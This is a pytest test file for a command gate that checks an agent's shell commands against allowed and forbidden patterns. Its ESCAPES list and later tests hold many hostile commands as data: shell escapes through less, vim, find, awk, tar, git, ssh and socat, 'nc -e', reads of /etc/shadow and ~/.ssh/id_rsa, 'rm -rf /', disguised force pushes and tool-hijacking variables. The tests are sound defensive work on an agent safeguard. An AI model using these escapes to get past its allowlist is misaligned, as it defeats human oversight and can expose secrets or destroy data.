"""Known escapes of auto-allowed programs and the forbidden-equivalents, attacked
(issue 12: 'File-path layer' and the shell escapes of auto-allowed programs).

Every case here was written for this project from the programs' own documentation (no
third-party escape catalogue is copied). Where a case claims what a program does (git
folds the case of alias names, ``find -delete`` removes the tree, ``tar -c DIR`` stores
what is below DIR, ``./ls`` is not ``/bin/ls``, a ``+`` refspec in ``remote.*.push``
force-updates), the claim is checked against the real program in a temporary directory.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from charter.actions import shell
from charter.actions.constitution import parse_text
from charter.actions.gate import Gate, GateConfig
from charter.core.verdict import Verdict

GIT = shutil.which("git")
BASH = shutil.which("bash")
needs_git = pytest.mark.skipif(GIT is None, reason="git is not installed")
needs_bash = pytest.mark.skipif(BASH is None, reason="bash is not installed")


def gate_for(
    auto: list[str], *, forbidden: list[str] | None = None, work: Path | None = None
) -> Gate:
    limits = ""
    if work is not None:
        limits = (
            f'[resource_limits]\nallowed_directories = ["{work}"]\n'
            f'blocked_directories = ["{work}/secrets", "/etc", "~/.ssh"]\n'
        )
    text = (
        '[identity]\nversion = "1.0.0"\n[boundaries]\n'
        f"forbidden = {json.dumps(forbidden or [])}\nrequires_approval = []\n"
        f"auto_allowed = {json.dumps(auto)}\n{limits}"
    )
    protected = (str(work / "constitution.toml"),) if work is not None else ()
    return Gate(parse_text(text), config=GateConfig(protected_paths=protected))


def decide(gate: Gate, command: str, cwd: Path | str = "/tmp") -> tuple[Verdict, list[str]]:
    d = gate.decide_command(command, str(cwd))
    return d.verdict, [f"{r.rule}: {r.msg}" for r in d.reasons]


def workdir(tmp_path: Path) -> Path:
    work = tmp_path / "work"
    (work / "secrets").mkdir(parents=True)
    (work / "secrets" / "key").write_text("k")
    (work / "src").mkdir()
    (work / "src" / "a.py").write_text("x = 1\n")
    return work


def run(argv: list[str], cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    full = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(cwd), **env}
    return subprocess.run(  # noqa: S603 - fixed programs in a temporary directory
        argv, cwd=cwd, env=full, capture_output=True, text=True, timeout=30, check=False
    )


# ------------------------------------------------------------ program escapes per program

#: ``(auto-allowed program, command)``: with ``"P"`` and ``"P *"`` auto-allowed, each line
#: runs a command or code, or writes or reads a file the pattern never saw: never allow.
ESCAPES = [
    ("less", "less '+!id' notes.txt"),
    ("less", "LESSOPEN='|id %s' less notes.txt"),
    ("less", "LESS='+!id' less notes.txt"),
    ("less", "less -o /etc/x notes.txt"),
    ("more", "more '+!id' notes.txt"),
    ("man", "man -P 'sh -c id' ls"),
    ("man", "MANPAGER='sh -c id' man ls"),
    ("vim", "vim -c ':!id'"),
    ("vim", "vim +'!id' x"),
    ("vim", "vim --cmd 'call system(\"id\")'"),
    ("vim", "vim -S session.vim"),
    ("vi", "vi -c ':!id' x"),
    ("vim", "vim -u evil.vim x"),
    ("nvim", "nvim -l evil.lua"),
    ("git", "git clone --template=/tmp/t https://example.com/r"),
    ("git", "git init --template=/tmp/t"),
    ("git", "git submodule foreach id"),
    ("find", "find . -exec id \\;"),
    ("find", "find . -execdir id {} +"),
    ("find", "find . -ok id \\;"),
    ("find", "find . -okdir id \\;"),
    ("find", "find . -fprint /etc/x"),
    ("find", "find / -name x"),
    ("awk", "awk 'BEGIN{system(\"id\")}'"),
    ("awk", 'awk \'BEGIN{print "x" > "/tmp/out"}\''),
    ("awk", 'awk \'BEGIN{print "x" | "sh"}\''),
    ("awk", "awk 'BEGIN{\"id\" | getline}'"),
    ("awk", "awk -f prog.awk notes.txt"),
    ("gawk", "gawk '@load \"lib\"; BEGIN{}'"),
    ("gawk", "gawk -l lib 'BEGIN{}'"),
    ("sed", "sed '1e id' notes.txt"),
    ("sed", "sed 's/x/id/e' notes.txt"),
    ("sed", "sed -n '1w /tmp/out' notes.txt"),
    ("sed", "sed -i s/a/b/ /etc/hosts"),
    ("tar", "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id"),
    ("tar", "tar -xf a.tar --to-command=id"),
    ("tar", "tar -cf a.tar -I id x"),
    ("tar", "tar -cf a.tar --use-compress-program=id x"),
    ("tar", "tar -cvf a.tar -F id x"),
    ("tar", "tar -cf a.tar /etc/hosts"),
    ("zip", "zip a.zip notes.txt -T -TT 'id #'"),
    ("zip", "zip a.zip notes.txt -T --unzip-command='id #'"),
    ("git", "git -c core.pager=id log"),
    ("git", "git -c core.sshCommand=id fetch"),
    ("git", "git -c core.fsmonitor=id status"),
    ("git", "git ls-remote --upload-pack=id x"),
    ("git", "git clone -u id x y"),
    ("git", "git -c alias.x='!id' x"),
    ("git", "git difftool -x id HEAD"),
    ("git", "git difftool --extcmd=id HEAD"),
    ("git", "git rebase --exec id HEAD~1"),
    ("git", "GIT_SSH_COMMAND=id git fetch"),
    ("git", "GIT_TRACE2_EVENT=/tmp/trace git status"),
    ("git", "GIT_COMMON_DIR=/tmp/x git status"),
    ("rsync", "rsync -e 'sh -c id' x host:y"),
    ("rsync", "rsync --rsync-path='id' x host:y"),
    ("xargs", "xargs id"),
    ("env", "env id"),
    ("env", "env -S 'id'"),
    ("timeout", "timeout 5 id"),
    ("nice", "nice -n 5 id"),
    ("ssh", "ssh -o ProxyCommand='id' host"),
    ("ssh", "ssh -oProxyCommand=id host"),
    ("ssh", "ssh -o LocalCommand=id -o PermitLocalCommand=yes host"),
    ("ssh", "ssh -F cfg host"),
    ("python", "python -c 'print(1)'"),
    ("python3", "python3 -c 'import os; os.system(\"id\")'"),
    ("python", "python"),
    ("perl", "perl -e 'exec \"id\"'"),
    ("ruby", "ruby -e 'system \"id\"'"),
    ("node", 'node -e \'require("child_process").execSync("id")\''),
    ("make", "make --eval='x:;id' x"),
    ("make", "make SHELL=/bin/sh"),
    ("strace", "strace id"),
    ("strace", "strace -o /tmp/x true"),
    ("ltrace", "ltrace id"),
    ("script", "script -c id"),
    ("script", "script -q /dev/null"),
    ("flock", "flock /tmp/l id"),
    ("flock", "flock -c id /tmp/l"),
    ("watch", "watch id"),
    ("watch", "watch -x id"),
    # a shell named by path in a word of a program that runs things
    ("aa-exec", "aa-exec /bin/sh"),
    ("valgrind", "valgrind /bin/sh"),
    ("socat", "socat - exec:/bin/sh,pty"),
    ("apt-get", "apt-get update -o APT::Update::Pre-Invoke::=/bin/sh"),
    ("docker", "docker run -v /:/mnt alpine chroot /mnt /bin/sh"),
    ("setarch", "setarch -3 /bin/sh"),
    # sub-command wrappers and options that run a command
    ("uv", "uv run --with x id"),
    ("npm", "npm exec -- id"),
    ("yarn", "yarn exec id"),
    ("bundle", "bundle exec id"),
    ("certbot", "certbot renew --pre-hook 'id'"),
    ("openvpn", "openvpn --dev null --script-security 2 --up id"),
    ("nc", "nc -e /bin/id host 1"),
    ("pdflatex", "pdflatex --shell-escape doc.tex"),
    ("restic", "restic --password-command=id backup"),
    ("restic", "RESTIC_PASSWORD_COMMAND=id restic backup"),
    ("tmux", "tmux -c id"),
    ("pip", "pip config --editor id edit"),
    # wrappers that start a shell when no command is given
    ("chroot", "chroot /"),
    ("systemd-run", "systemd-run -S"),
    ("unshare", "unshare"),
    ("openvt", "openvt -- id"),
    ("git", "git apply --unsafe-paths --directory / x.patch"),
    ("mysql", "mysql --default-auth ../lib"),
    ("aria2c", "aria2c -o /etc/cron.d/x http://example.com/x"),
    ("lwp-download", "lwp-download http://example.com/x /etc/cron.d/x"),
    ("run-parts", "run-parts --regex '^sh$' /bin"),
    ("sg", "sg root"),
    ("su", "su"),
    ("screen", "screen"),
    ("capsh", "capsh --"),
    # programs that read their program, script or file names from stdin
    ("at", "echo 'id' | at now"),
    ("m4", "echo 'esyscmd(id)' | m4"),
    ("cpio", "echo /etc/shadow | cpio -o"),
    ("cpio", "find . | cpio -o > a.cpio"),
    ("octave-cli", "octave-cli --eval 'system(\"id\")'"),
    ("latex", "latex '\\begin{document}\\verbatiminput{/etc/shadow}\\end{document}'"),
    ("nroff", "GROFF_BIN_PATH=. nroff"),
    # interpreters' inline code, bare shells and REPLs
    ("R", "R -e 'system(\"id\")'"),
    ("gnuplot", "gnuplot -e 'system(\"id\")'"),
    ("expect", "expect -c 'spawn id'"),
    ("rpm", "rpm --eval '%(id)'"),
    ("bash", "bash"),
    ("zsh", "zsh"),
    ("csh", "csh -c 'echo x > /etc/x'"),
    ("tclsh", "tclsh"),
    # SQL shells' own commands
    ("sqlite3", "sqlite3 db '.shell id'"),
    ("sqlite3", "sqlite3 db -cmd '.output /tmp/x' 'select 1;'"),
    ("sqlite3", "sqlite3 db <<EOF\n.import /etc/hosts t\nEOF"),
    ("mysql", "mysql -e '\\! id'"),
    ("psql", "psql -c '\\! id'"),
    # paths inside words: response files, URI schemes, directives
    ("gcc", "gcc @/etc/shadow"),
    ("socat", "socat -u file:/etc/shadow -"),
    ("apache2", "apache2 -C 'Include /etc/shadow'"),
]


@pytest.mark.parametrize(("program", "command"), ESCAPES)
def test_escape_of_an_auto_allowed_program_is_never_allowed(
    tmp_path: Path, program: str, command: str
) -> None:
    work = workdir(tmp_path)
    (work / "notes.txt").write_text("n")
    gate = gate_for([program, f"{program} *"], work=work)
    v, why = decide(gate, command, work)
    assert v is not Verdict.ALLOW, (command, why)


#: the ordinary use of the same programs: still allowed (no prompt for the harmless)
ORDINARY = [
    ("less", "less notes.txt"),
    ("less", "less +G notes.txt"),
    ("man", "man ls"),
    ("vim", "vim notes.txt"),
    ("find", "find src -name '*.py'"),
    ("awk", "awk '{print $1}' notes.txt"),
    ("sed", "sed -n 1p notes.txt"),
    ("sed", "sed -i s/a/b/ notes.txt"),
    ("tar", "tar -czf out.tgz src/"),
    ("tar", "tar -tf a.tar"),
    ("zip", "zip -r out.zip src"),
    ("git", "git status"),
    ("git", "git --no-pager status"),
    ("git", "GIT_PAGER=cat git log -5"),
    ("git", "PAGER=cat git log -5"),
    ("git", "git -c core.pager=cat log"),
    ("git", "GIT_CONFIG_NOSYSTEM=1 git log"),
    ("git", "GIT_AUTHOR_NAME=me git commit -m x"),
    ("git", "git -c alias.st=status st"),
    ("grep", "grep -rn '$IFS' src/"),
    ("grep", "grep -rn '/etc/passwd' src/"),
    ("grep", "grep -rn '/bin/sh' src/"),
    ("echo", "echo /etc/hosts"),
    ("echo", 'echo "👩\u200d👩\u200d👧 done"'),
    ("ls", "ls -l /bin/sh"),
    ("python3", "python3 --version"),
    ("node", "node --version"),
    ("bash", "bash --version"),
    ("npm", "npm ls react"),
    ("uv", "uv sync"),
    ("make", "make test"),
    ("ls", "/bin/ls -la"),
    ("git", "git apply fix.patch"),
    ("mysql", "mysql -e 'select 1'"),
    ("at", "at -l"),
    ("m4", "m4 macros.m4"),
    ("cpio", "cpio -i < a.cpio"),
    ("jq", "jq 'select(.path == \"/etc/x\")' data.json"),
]


@pytest.mark.parametrize(("program", "command"), ORDINARY)
def test_ordinary_use_stays_allowed(tmp_path: Path, program: str, command: str) -> None:
    work = workdir(tmp_path)
    (work / "notes.txt").write_text("n")
    gate = gate_for([program, f"{program} *"], work=work)
    v, why = decide(gate, command, work)
    assert v is Verdict.ALLOW, (command, why)


# ---------------------------------------------------------------- forbidden-equivalents

FORCE = ["git push --force *", "DROP DATABASE *"]


@pytest.mark.parametrize(
    "command",
    [
        "git push --mirror",
        "git push --mirror origin",
        "git -c alias.p='push --force' p origin main",
        "git -c alias.P='push --force' p origin main",
        "git -c ALIAS.p='push --force' P origin main",
        "git -c remote.origin.push=+refs/heads/*:refs/heads/* push",
        "git -c remote.origin.push=+main push origin",
        "git -c remote.origin.mirror=true push",
        "git -c remote.origin.mirror push",
        "DROP DATABASE prod",
        "drop database prod",
    ],
)
def test_forbidden_equivalents_are_denied(command: str) -> None:
    gate = gate_for(["git *", "ls *"], forbidden=FORCE)
    v, why = decide(gate, command)
    assert v is Verdict.DENY, (command, why)


def test_a_bare_statement_action_matches_as_written() -> None:
    gate = gate_for(["git *"], forbidden=FORCE)
    d = gate.decide_action({"kind": "command", "command": "DROP DATABASE prod", "cwd": "/"})
    assert d.verdict is Verdict.DENY
    d = gate.decide_action({"kind": "command", "command": "echo DROP DATABASE x", "cwd": "/"})
    assert d.verdict is not Verdict.DENY


@pytest.mark.parametrize(
    "command",
    [
        "git config alias.p 'push --force' && git p origin main",
        "git config remote.origin.push '+refs/heads/*:refs/heads/*' && git push",
        "git config --global alias.p 'push --force'",
    ],
)
def test_configuring_a_forbidden_equivalent_asks(command: str) -> None:
    gate = gate_for(["git *"], forbidden=FORCE)
    v, why = decide(gate, command)
    assert v is not Verdict.ALLOW, (command, why)


@pytest.mark.parametrize(
    "command",
    ["git -c remote.origin.mirror=false push", "git -c remote.origin.push=main push origin"],
)
def test_unforced_push_settings_stay_as_they_were(command: str) -> None:
    gate = gate_for(["git *"], forbidden=FORCE)
    v, why = decide(gate, command)
    assert v is Verdict.ALLOW, (command, why)


@needs_git
def test_git_folds_the_case_of_alias_names(tmp_path: Path) -> None:
    """The claim behind ``alias.P`` = ``alias.p`` and ``git P`` = ``git p``."""
    assert GIT is not None
    run([GIT, "init", "-q", "r"], tmp_path)
    repo = tmp_path / "r"
    for key, name in (("alias.P", "p"), ("alias.p", "P"), ("ALIAS.Zz", "zZ")):
        result = run([GIT, "-c", f"{key}=rev-parse --git-dir", name], repo)
        assert result.returncode == 0 and result.stdout.strip() == ".git", (key, result.stderr)


@needs_git
def test_a_plus_refspec_in_remote_push_force_updates(tmp_path: Path) -> None:
    """The claim behind ``remote.NAME.push=+REF`` being a force push: a non-fast-forward
    update that plain ``git push`` refuses goes through."""
    assert GIT is not None
    ident = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e", "GIT_COMMITTER_NAME": "t",
             "GIT_COMMITTER_EMAIL": "t@e"}  # fmt: skip
    run([GIT, "init", "-q", "--bare", "remote.git"], tmp_path)
    run([GIT, "init", "-q", "-b", "main", "w"], tmp_path)
    w = tmp_path / "w"
    run([GIT, "remote", "add", "origin", str(tmp_path / "remote.git")], w)
    for message in ("one", "two"):
        run([GIT, "commit", "-q", "--allow-empty", "-m", message], w, **ident)
    assert run([GIT, "push", "-q", "origin", "main"], w).returncode == 0
    run([GIT, "reset", "-q", "--hard", "HEAD~1"], w)
    run([GIT, "commit", "-q", "--allow-empty", "-m", "other"], w, **ident)
    assert run([GIT, "push", "-q", "origin", "main"], w).returncode != 0  # refused
    forced = run([GIT, "-c", "remote.origin.push=+main:main", "push", "-q", "origin"], w)
    assert forced.returncode == 0, forced.stderr


# --------------------------------------------------------------------- program paths


@pytest.mark.parametrize("command", ["./ls -la", "src/ls", "bin/git status", "{W}/ls"])
def test_a_program_from_the_repository_is_not_the_trusted_one(tmp_path: Path, command: str) -> None:
    work = workdir(tmp_path)
    (work / "bin").mkdir()
    for d in ("", "src", "bin"):
        for name in ("ls", "git"):
            f = work / d / name
            f.write_text("#!/bin/sh\necho pwned\n")
            f.chmod(0o755)
    gate = gate_for(["ls", "ls *", "git *"], work=work)
    v, why = decide(gate, command.format(W=work), work)
    assert v is Verdict.ASK, (command, why)
    assert any("CHARTER-GATE-PROGRAM-PATH" in w for w in why), why


def test_a_pattern_that_names_the_path_allows_that_file_only(tmp_path: Path) -> None:
    gate = gate_for(["./gradlew", "./gradlew *", "scripts/run.sh *"])
    assert decide(gate, "./gradlew build", tmp_path)[0] is Verdict.ALLOW
    assert decide(gate, "scripts/run.sh --fast", tmp_path)[0] is Verdict.ALLOW
    assert decide(gate, "/tmp/evil/gradlew build", tmp_path)[0] is Verdict.ASK
    assert decide(gate, "other/run.sh", tmp_path)[0] is Verdict.ASK
    modes = gate_for(["chmod *", "echo *", "scripts/run.sh", "scripts/run.sh *"])
    assert decide(modes, "chmod +x scripts/run.sh && scripts/run.sh", tmp_path)[0] is (
        Verdict.ALLOW
    )
    assert decide(modes, "echo id > scripts/run.sh && scripts/run.sh", tmp_path)[0] is (Verdict.ASK)


def test_the_program_on_the_trusted_path_by_its_full_path_is_allowed(tmp_path: Path) -> None:
    found = shutil.which("ls")
    assert found is not None
    gate = gate_for(["ls", "ls *"])
    assert decide(gate, f"{found} -la", tmp_path)[0] is Verdict.ALLOW
    assert decide(gate, f"{os.path.realpath(found)} -la", tmp_path)[0] is Verdict.ALLOW


@needs_bash
def test_bash_runs_the_repository_file_for_a_dot_slash_name(tmp_path: Path) -> None:
    """The claim: ``./ls`` runs the file in the working directory, not ``ls`` on PATH."""
    assert BASH is not None
    fake = tmp_path / "ls"
    fake.write_text("#!/bin/sh\necho pwned\n")
    fake.chmod(0o755)
    assert run([BASH, "-c", "./ls -la"], tmp_path).stdout.strip() == "pwned"
    assert run([BASH, "-c", "ls"], tmp_path).stdout.strip() != "pwned"


# --------------------------------------------------------- recursive reads and writes


def test_recursive_reads_of_a_tree_holding_a_blocked_directory(tmp_path: Path) -> None:
    work = workdir(tmp_path)
    gate = gate_for(["tar *", "find *", "rm *", "chmod *", "zip *", "grep *"], work=work)
    for command in (
        "tar -czf out.tgz .",
        "tar -czf out.tgz ../work",
        "find . -exec cat {} +",
        "find . -name '*.key'",
        "find . -delete",
        "rm -rf .",
        "rm -r --force .",
        "chmod -R 777 .",
        "zip -r out.zip .",
        "grep -r x .",
    ):
        v, why = decide(gate, command, work)
        assert v is Verdict.DENY, (command, why)
    for command in ("tar -czf out.tgz src/", "find src -delete", "rm -rf src", "chmod -R go-w src",
                    "tar -czf out.tgz --no-recursion ."):  # fmt: skip
        v, why = decide(gate, command, work)
        assert v is Verdict.ALLOW, (command, why)


def test_a_recursive_write_of_a_tree_holding_charters_files_is_denied(tmp_path: Path) -> None:
    work = tmp_path / "plain"
    work.mkdir()
    (work / "constitution.toml").write_text("x")
    gate = gate_for(["rm *"], work=work)
    v, why = decide(gate, "rm -rf ../plain", work)
    assert v is Verdict.DENY and any("PROTECTED" in w for w in why), why


def test_a_recursive_read_of_a_home_holding_secrets_is_not_allowed(tmp_path: Path) -> None:
    gate = gate_for(["grep *", "tar *", "find *"])
    for command in ("grep -r token ~", "tar -czf /tmp/h.tgz ~", "find ~ -exec cat {} +"):
        v, why = decide(gate, command, tmp_path)
        assert v is not Verdict.ALLOW, (command, why)


def test_tar_and_find_really_reach_below_the_directory(tmp_path: Path) -> None:
    """The claims: ``tar -c DIR`` stores what is below DIR; ``find DIR -delete`` removes it."""
    (tmp_path / "d" / "deep").mkdir(parents=True)
    (tmp_path / "d" / "deep" / "f").write_text("x")
    tar = shutil.which("tar")
    find = shutil.which("find")
    if tar is None or find is None:
        pytest.skip("tar or find is not installed")
    run([tar, "-cf", "a.tar", "d"], tmp_path)
    with tarfile.open(tmp_path / "a.tar") as archive:
        assert "d/deep/f" in archive.getnames()
    run([find, "d", "-delete"], tmp_path)
    assert not (tmp_path / "d").exists()


# ------------------------------------------------------------- configure, then run


CONFIGURES = [
    "composer.json", "Gemfile", ".husky/pre-commit", ".bashrc", ".gitconfig",
    ".git/config", ".git/hooks/pre-commit", "package.json", "conftest.py", "pytest.ini",
    "pyproject.toml", "build.rs", "Makefile", ".claude/settings.json",
    ".gemini/settings.json", ".cursor/hooks.json", "sub/dir/conftest.py",
]  # fmt: skip


@pytest.mark.parametrize("name", CONFIGURES)
def test_writes_to_files_that_configure_a_tool_ask(tmp_path: Path, name: str) -> None:
    work = workdir(tmp_path)
    gate = gate_for(["echo *", "cp *", "sed *", "tee *"], work=work)
    for command in (f"echo x > {name}", f"cp a {name}", f"sed -i s/a/b/ {name}", f"tee {name}"):
        v, why = decide(gate, command, work)
        assert v is Verdict.ASK, (command, why)
    d = gate.decide_write(name, cwd=str(work))
    assert d.verdict is Verdict.ASK, [r.msg for r in d.reasons]


def test_plain_project_files_stay_writable(tmp_path: Path) -> None:
    work = workdir(tmp_path)
    gate = gate_for(["echo *"], work=work)
    for name in ("src/app.py", "README.md", "package-lock.json", "notes/Makefile.txt"):
        assert decide(gate, f"echo x > {name}", work)[0] is Verdict.ALLOW, name


def test_data_written_first_and_read_by_a_script_keeps_its_verdict(tmp_path: Path) -> None:
    work = workdir(tmp_path)
    (work / "tool.py").write_text("print(1)\n")
    gate = gate_for(["echo *", "python *", "pytest *"], work=work)
    for command in ("echo 1 > in.txt && python tool.py in.txt", "echo x > t.txt && pytest -q"):
        assert decide(gate, command, work)[0] is Verdict.ALLOW, command


@pytest.mark.parametrize(
    "command",
    [
        "echo 'import os' > t.py && python t.py",
        "printf 'id' > t.sh; sh ./t.sh",
        "cp /tmp/x t.sh && . ./t.sh",
        "echo id > run.sh; bash run.sh",
        "cat > t.py <<EOF\nimport os\nEOF\npython3 -u t.py",
    ],
)
def test_running_a_file_written_in_the_same_string_asks(tmp_path: Path, command: str) -> None:
    work = workdir(tmp_path)
    gate = gate_for(["echo *", "printf *", "cp *", "cat *", "python *", "python3 *", "sh *",
                     "bash *", ". *"], work=work)  # fmt: skip
    v, why = decide(gate, command, work)
    assert v is Verdict.ASK, (command, why)


# ---------------------------------------------------------- variables that run things

HIJACKS = [
    "GIT_TRACE=/tmp/t", "GIT_TRACE2_EVENT=/tmp/t", "GIT_COMMON_DIR=/tmp/x", "GIT_DIR=/tmp/x",
    "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=id", "CARGO_BUILD_RUSTC_WRAPPER=id",
    "RUSTC_WRAPPER=id", "RUSTFLAGS=-Clinker=id", "npm_config_script_shell=id",
    "NPM_CONFIG_SCRIPT_SHELL=id", "Npm_Config_Script_Shell=id", "PYTEST_ADDOPTS=-p evil",
    "PYTEST_PLUGINS=evil", "LESS=+!id", "LESSOPEN=|id", "CC=id", "MAKEFLAGS=SHELL=id",
    "GOFLAGS=-toolexec=id", "JAVA_TOOL_OPTIONS=-javaagent:x.jar", "PYTHONWARNINGS=ignore::x.Y",
]  # fmt: skip


@pytest.mark.parametrize("assignment", HIJACKS)
def test_variables_that_make_tools_run_code_ask(assignment: str) -> None:
    gate = gate_for(["git *", "cargo *", "npm *", "pytest *", "less *", "make *"])
    for program in ("git status", "cargo test", "npm test", "pytest -q", "make test"):
        v, why = decide(gate, f"{assignment} {program}")
        assert v is Verdict.ASK, (assignment, program, why)


def test_write_options_of_pytest_meet_the_directory_limits(tmp_path: Path) -> None:
    work = workdir(tmp_path)
    gate = gate_for(["pytest *"], work=work)
    for command in (
        "pytest --basetemp=/etc/x",
        "pytest --junitxml=/etc/x",
        "pytest --basetemp=secrets",
    ):
        assert decide(gate, command, work)[0] is Verdict.DENY, command
    assert decide(gate, "pytest --junitxml=out/report.xml", work)[0] is Verdict.ALLOW


# ------------------------------------------------------------------- the fast paths

_PLAIN = st.text(alphabet="abcxyz019_@%+:,./~=-", min_size=1, max_size=8)


_PROGRAMS = st.sampled_from(
    ["git", "ls", "rm", "x", "sudo", "env", "bash", "cd", ".", "export", "declare", "local",
     "time", "do", "if", "!", "[", "[[", "eval", "alias", "at", "python", "exec", "g++"]
) | _PLAIN  # fmt: skip


@given(st.lists(_PLAIN, max_size=6), _PROGRAMS, st.sampled_from([" ", "  "]))
def test_the_plain_command_shortcut_gives_the_full_parse(
    words: list[str], program: str, sep: str
) -> None:
    source = sep.join([program, *words])
    assert shell.parse.__wrapped__(source) == shell.parse_full(source)


@pytest.mark.parametrize(
    "source",
    ["git status", "ls -la src", "rm -rf /", "sudo rm -rf /", "env FOO=1 ls", "sh -c ls",
     "timeout 5 rm -rf x", "git -c alias.x=status x", "bash", "cd .. ", "  ls  -l  ",
     ". ./x", "python", "find . -delete", "cat ~/.ssh/id_rsa", "git diff HEAD~1 a=b"],
)  # fmt: skip
def test_the_plain_command_shortcut_on_known_commands(source: str) -> None:
    assert shell.parse.__wrapped__(source) == shell.parse_full(source)
